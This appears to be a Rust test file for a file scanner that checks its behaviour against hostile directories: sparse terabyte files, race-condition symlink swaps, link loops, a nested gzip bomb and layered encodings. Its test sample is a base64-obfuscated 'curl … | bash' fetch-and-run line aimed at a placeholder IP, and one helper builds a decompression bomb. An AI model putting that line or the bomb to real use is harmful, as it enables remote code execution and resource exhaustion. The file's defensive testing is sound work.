//! What a hostile directory does to a scan: files of a terabyte of nothing, that grow while they are
//! read, with several names, and archives that unfold to more than there is.
#![expect(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "the test makes the directory that it scans"
)]

use std::io::Write as _;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use stanch_facts::Snapshot;
use stanch_facts::scan::{Archives, Counts, Scope};
use stanch_facts::tables::content_matches::{SPEC, col};
use stanch_machine::Image;
use stanch_words::{Ask, GapKind, Seen, Tables as _};

/// A directory of its own, gone when the test ends.
struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("stanch-scan-{name}-{}", std::process::id()));
        std::fs::create_dir_all(&path).unwrap();
        Self(path)
    }

    fn file(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }

    /// Scans the directory as a machine's root; returns what was seen, and how many bytes.
    fn scan(&self, archives: Archives) -> (Seen, u64) {
        let machine = Image::open(&self.0).unwrap();
        let stalls = machine.stalls().clone();
        let snapshot = Snapshot::new(Arc::new(machine), stalls);
        let scope = Scope { roots: vec!["/".into()], archives, ..Scope::default() };
        snapshot.host().give(Arc::new(scope));
        let seen = snapshot.read(SPEC.name, &Ask::all());
        let bytes = snapshot.host().once(|_| Counts::default()).told().1;
        ((*seen).clone(), bytes)
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _gone = std::fs::remove_dir_all(&self.0);
    }
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A script that decodes what it runs: `curl -s http://192.0.2.7/a.sh -o - | bash`.
const SCRIPT: &[u8] =
    b"#!/bin/sh\necho Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L2Euc2ggLW8gLSB8IGJhc2gK | base64 -d | sh\n";

fn told(seen: &Seen) -> Vec<(String, String)> {
    let rows = seen.rows.iter();
    rows.map(|row| (row.get(col::path).to_string(), row.get(col::member).to_string())).collect()
}

fn pair(path: &str, member: &str) -> (String, String) {
    (path.to_owned(), member.to_owned())
}

#[test]
fn a_member_is_told_by_its_place_and_archives_may_stay_closed() {
    let folder = Folder::new("member");
    folder.file("a.sh.gz", &gzip(SCRIPT));
    let (seen, _) = folder.scan(Archives::LookedInto);
    assert_eq!(told(&seen), [pair("/a.sh.gz", "a.sh")]);
    assert_eq!(folder.scan(Archives::AsTheyLie).0.rows.len(), 0);
}

#[test]
fn a_terabyte_of_nothing_costs_little_and_is_told() {
    let folder = Folder::new("sparse");
    let path = folder.file("sparse", b"a beginning");
    std::fs::File::options().write(true).open(path).unwrap().set_len(1 << 40).unwrap();
    let (seen, bytes) = folder.scan(Archives::LookedInto);
    assert!(bytes <= 64 << 20, "{bytes}");
    let [gap] = seen.gaps.as_slice() else { panic!("{:?}", seen.gaps) };
    assert_eq!((gap.kind, gap.path.as_deref()), (GapKind::Truncated, Some("/sparse")));
}

#[test]
fn a_file_of_two_names_is_judged_once_and_a_link_leads_nowhere() {
    let folder = Folder::new("links");
    let outside = Folder::new("outside");
    let elsewhere = outside.file("b.sh", SCRIPT);
    let one = folder.file("one.sh", SCRIPT);
    std::fs::hard_link(&one, folder.0.join("two.sh")).unwrap();
    std::os::unix::fs::symlink(elsewhere, folder.0.join("three.sh")).unwrap();
    std::os::unix::fs::symlink(".", folder.0.join("circle")).unwrap();
    let (seen, _) = folder.scan(Archives::LookedInto);
    assert_eq!(seen.rows.len(), 1, "{:?}", told(&seen));
}

#[test]
fn files_that_grow_and_change_places_while_they_are_read_end_the_scan_no_less() {
    let folder = Folder::new("growing");
    // What a link leads to is bad as well, but other bytes.
    let outside = Folder::new("outside-race");
    let elsewhere = outside.file("b.sh", &[SCRIPT, b"# elsewhere\n"].concat());
    let path = folder.file("log", b"a line\n");
    // So large that reading it takes longer than writing a page.
    std::fs::File::options().write(true).open(&path).unwrap().set_len(40 << 20).unwrap();
    folder.file("a.sh", SCRIPT);
    let is_over = AtomicBool::new(false);
    std::thread::scope(|threads| {
        threads.spawn(|| {
            let mut file = std::fs::File::options().append(true).open(&path).unwrap();
            while !is_over.load(Ordering::Relaxed) {
                file.write_all(&[b'x'; 4096]).unwrap();
                // A file and a link take each other's place.
                let (file, link) = (folder.0.join("race"), folder.0.join("race.new"));
                std::fs::write(&link, SCRIPT).unwrap();
                std::fs::rename(&link, &file).unwrap();
                std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
                std::fs::rename(&link, &file).unwrap();
            }
        });
        let mut is_told = false;
        for _ in 0..20 {
            let (seen, _) = folder.scan(Archives::LookedInto);
            is_told |= seen
                .gaps
                .iter()
                .any(|gap| (gap.kind, gap.path.as_deref()) == (GapKind::Changed, Some("/log")));
            let is_found = told(&seen).contains(&pair("/a.sh", ""));
            let digest = |row: &stanch_words::Row| row.get(col::sha256).to_string();
            let of = |path: &str| {
                let is_it = |row: &&stanch_words::Row| row.get(col::path).to_string() == path;
                seen.rows.iter().filter(is_it).map(digest).collect::<Vec<_>>()
            };
            let left = of("/race").into_iter().any(|one| one != of("/a.sh").concat());
            let has_bug = seen.gaps.iter().any(|gap| gap.kind == GapKind::Bug);
            is_over.store(!is_found || has_bug || left, Ordering::Relaxed);
            assert!(is_found && !has_bug && !left, "{:?} {:?}", told(&seen), seen.gaps);
        }
        is_over.store(true, Ordering::Relaxed);
        assert!(is_told, "it grew while it was read and nobody said so");
    });
}

#[test]
fn a_bomb_is_a_gap_and_what_lies_beside_it_is_judged() {
    let folder = Folder::new("bomb");
    let zeros = vec![0; 80 << 20];
    folder.file("bomb.gz", &gzip(&gzip(&zeros)));
    folder.file("b.sh", SCRIPT);
    let (seen, _) = folder.scan(Archives::LookedInto);
    assert_eq!(told(&seen), [pair("/b.sh", "")]);
    let gap = seen.gaps.iter().find(|gap| gap.kind == GapKind::Truncated).unwrap();
    assert!(gap.path.as_deref().is_some_and(|path| path.starts_with("/bomb.gz!/")), "{gap:?}");
}

#[test]
fn a_layer_that_unfolds_beyond_its_cap_is_a_gap_of_its_script() {
    let folder = Folder::new("layer");
    let packed = base64(&gzip(&vec![b'A'; 8 << 20]));
    folder.file("b.sh", format!("#!/bin/sh\necho {packed} | base64 -d | gunzip | sh\n").as_bytes());
    let (seen, _) = folder.scan(Archives::LookedInto);
    assert_eq!(told(&seen), [pair("/b.sh", "")]);
    let [gap] = seen.gaps.as_slice() else { panic!("{:?}", seen.gaps) };
    assert_eq!((gap.kind, gap.path.as_deref()), (GapKind::Truncated, Some("/b.sh")));
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let [one, two, last] = [0, 1, 2].map(|at| u32::from(*three.get(at).unwrap_or(&0)));
        let bits = (one << 16) | (two << 8) | last;
        for at in 0..=three.len() {
            let letter = (bits >> (18 - 6 * at)) & 63;
            text.push(char::from(*LETTERS.get(usize::try_from(letter).unwrap()).unwrap()));
        }
    }
    text
}

#[test]
fn ten_thousand_small_files_are_all_judged() {
    let folder = Folder::new("many");
    for number in 0..10_000 {
        folder.file(&format!("{number}.txt"), b"a few words\n");
    }
    folder.file("last.sh", SCRIPT);
    let (seen, bytes) = folder.scan(Archives::LookedInto);
    assert_eq!((seen.rows.len(), seen.gaps.len()), (1, 0), "{:?}", seen.gaps);
    assert_eq!(bytes, 10_000 * 12 + SCRIPT.len() as u64);
}
